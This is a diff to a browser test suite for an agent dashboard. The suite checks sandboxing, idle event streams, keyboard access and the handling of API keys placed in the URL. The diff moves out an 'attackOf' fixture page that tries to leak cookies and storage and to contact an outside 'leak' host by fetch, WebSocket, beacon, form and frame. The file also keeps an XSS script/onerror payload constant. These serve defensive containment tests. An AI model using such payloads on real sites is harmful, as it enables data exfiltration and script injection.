@@ -6,8 +6,9 @@ import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import type { Browser, FrameLocator, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
+import { attackOf } from './attack.ts';
 import { accessible, CHROMIUM, launch, opened, WITHOUT } from './browser.ts';
-import { type AppStage, startStage, text, use } from './stage.ts';
+import { ADMIN, type AppStage, startStage, text, use } from './stage.ts';
 
 const EVIL = '<img src=x onerror="globalThis.harmed=1"><script>globalThis.harmed=1</script>';
 const CSV = `${EVIL.replaceAll('/', '')}.csv`;
@@ -18,26 +19,6 @@ const VISIBLE = { timeout: 20_000 };
 
 type Styles = { getComputedStyle: (of: unknown) => { color: string } };
 const colorOf = (element: unknown): string => (globalThis as unknown as Styles).getComputedStyle(element).color;
-
-/** What a page that an agent wrote tries, and writes down. */
-const attackOf = (
-  leak: string,
-) => `<!doctype html><link rel="stylesheet" href="style.css"><h1>Owls</h1><pre id="told"></pre>
-<img src="${leak}/picture"><form id="f" action="${leak}/form" method="post"></form><iframe src="${leak}/frame"></iframe>
-<script>
-const told = [];
-const tries = {
-  parent: () => parent.document.title, top: () => { top.location = '${leak}/top'; }, storage: () => sessionStorage.length, local: () => localStorage.length,
-  cookie: () => document.cookie, opener: () => window.open('${leak}/open').focus(), form: () => { document.getElementById('f').submit(); throw new Error('stayed'); },
-};
-for (const [name, go] of Object.entries(tries)) { try { go(); told.push(name + ' WENT'); } catch { told.push(name + ' refused'); } }
-const asked = [fetch('${leak}/fetch'), fetch('/v1/budget'), new Promise((go, no) => { const s = new WebSocket('${leak}'.replace('http', 'ws')); s.onopen = go; s.onerror = no; })];
-Promise.allSettled(asked).then((all) => {
-  all.forEach((one, i) => told.push('ask ' + i + (one.status === 'fulfilled' ? ' WENT' : ' refused')));
-  navigator.sendBeacon('${leak}/beacon', 'x');
-  document.getElementById('told').textContent = told.join('\\n');
-});
-</script>`;
 
 describe.skipIf(!CHROMIUM)(CHROMIUM ? 'the dashboard' : `the dashboard (${WITHOUT})`, () => {
   let stage: AppStage;
@@ -260,15 +241,22 @@ describe.skipIf(!CHROMIUM)(CHROMIUM ? 'the dashboard' : `the dashboard (${WITHOU
     await vi.waitFor(async () => expect((await call('GET', `/v1/sessions/${id}`)).status).toBe('sleeping'), 20_000);
     const { page, context } = await opened(browser, 'about:blank');
     await page.clock.install();
-    await page.goto(address('/app'));
-    await page.locator('.agent b', { hasText: 'Asleep' }).waitFor(VISIBLE);
+    await page.goto(address(`/app/s/${id}`));
+    await chip(page, 'Asleep').waitFor(VISIBLE);
+    const streams = () => [...stage.unanswered].filter((path) => path.includes(id) || path.includes('/v1/events'));
+    await vi.waitFor(() => expect(streams()).toHaveLength(2), 20_000);
     await page.clock.runFor(310_000);
-    await page.getByText('Resting').waitFor(VISIBLE);
+    await page.getByText('Resting', { exact: true }).waitFor(VISIBLE);
+    await vi.waitFor(() => expect(streams()).toEqual([]), 20_000);
     const before = stage.requests.length;
     await page.clock.runFor(3 * 3_600_000);
     expect(stage.requests.slice(before)).toEqual([]);
     await page.mouse.click(5, 5);
-    await vi.waitFor(() => expect(stage.requests.slice(before).join()).toContain('/v1/events?after='), 20_000);
+    const again = ['/v1/events', '/v1/sessions?limit=100', `/v1/sessions/${id}/events/stream?after=`];
+    await vi.waitFor(() => {
+      const asked = stage.requests.slice(before).map((line) => line.replace(/^GET |\d+$/g, ''));
+      expect(asked).toEqual(expect.arrayContaining(again.map((path) => path.replace(/\d+$/, ''))));
+    }, 20_000);
     await context.close();
   });
 
@@ -281,6 +269,26 @@ describe.skipIf(!CHROMIUM)(CHROMIUM ? 'the dashboard' : `the dashboard (${WITHOU
     await page.getByLabel('API key').press('Enter');
     await page.getByRole('heading', { name: 'Money' }).waitFor(VISIBLE);
     expect(await page.evaluate(() => localStorage.length)).toBe(0);
+    // The first stop of the keyboard leads past the ways to other screens.
+    await page.getByRole('link', { name: 'To the content' }).focus();
+    await page.keyboard.press('Enter');
+    await page.locator('#main:focus').waitFor(VISIBLE);
+    // Single keys are switched off, and on again, without one.
+    await page.getByRole('button', { name: 'Keys' }).click();
+    await page.getByLabel('Single keys do this').uncheck();
+    await page.keyboard.press('Escape');
+    await page.getByRole('button', { name: 'Keys' }).click();
+    await page.getByLabel('Single keys do this').check();
+    await page.keyboard.press('Escape');
+    // A key in the address does not stay there, and none that is broken does harm.
+    await page.evaluate("location.hash = '#key=%zz'");
+    await vi.waitFor(() => expect(page.url()).toBe(`${stage.url}/app/money`), 20_000);
+    await page.evaluate(`location.hash = '#key=${ADMIN}'`);
+    await page.getByText('operator’s key, which belongs to no user').waitFor(VISIBLE);
+    expect(page.url()).toBe(`${stage.url}/app/money`);
+    expect(await page.evaluate('JSON.stringify([{ ...localStorage }, { ...sessionStorage }])')).not.toContain(ADMIN);
+    await page.getByRole('link', { name: 'Users' }).click();
+    await page.getByRole('heading', { name: 'Users' }).waitFor(VISIBLE);
     await context.close();
   });
 });
